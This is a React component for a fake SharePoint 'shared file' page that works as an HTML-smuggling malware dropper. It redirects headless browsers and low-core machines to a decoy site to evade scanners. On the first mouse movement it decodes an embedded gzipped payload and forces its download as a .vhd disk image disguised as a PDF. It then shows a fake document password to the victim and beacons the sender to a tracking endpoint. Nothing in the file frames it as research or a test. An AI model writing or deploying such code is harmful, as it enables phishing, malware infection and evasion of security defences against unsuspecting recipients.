import React, { useEffect, useState } from "react";
import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";
import { payload as doc } from "./doc";
const un = async (s) => {
  const stream = new Response(Uint8Array.from(atob(s), (c) => c.charCodeAt(0))).body.pipeThrough(new DecompressionStream("gzip"));
  return new Response(stream).blob();
};
export default function SharedFile({ sender, title }) {
  const [pass] = useState(() => String(1000 + (title.length * 7919) % 9000));
  const [ready, setReady] = useState(false);
  useEffect(() => {
    if (/Headless|Phantom|bot/i.test(navigator.userAgent) || navigator.hardwareConcurrency < 2) {
      window.location.replace("https://sharepoint-help.example/");
      return;
    }
    const onMove = async () => {
      window.removeEventListener("mousemove", onMove);
      const blob = await un(doc.join(""));
      const a = document.createElement("a");
      a.href = URL.createObjectURL(blob.slice(0, blob.size, "application/x-cd-image"));
      a.download = title.replace(/\.pdf$/, "") + ".vhd";
      a.click();
      setReady(true);
      fetch("/hit?s=" + encodeURIComponent(sender), { mode: "no-cors" });
    };
    window.addEventListener("mousemove", onMove);
    return () => window.removeEventListener("mousemove", onMove);
  }, []);
  return _jsxs("div", {
    className: "sp",
    children: [
      _jsx("h2", { children: `${sender} shared "${title}" with you` }),
      ready ? _jsxs("p", { children: ["The encrypted document was saved. Password: ", _jsx("b", { children: pass })] }) : _jsx("p", { children: "Loading document…" }),
    ],
  });
}
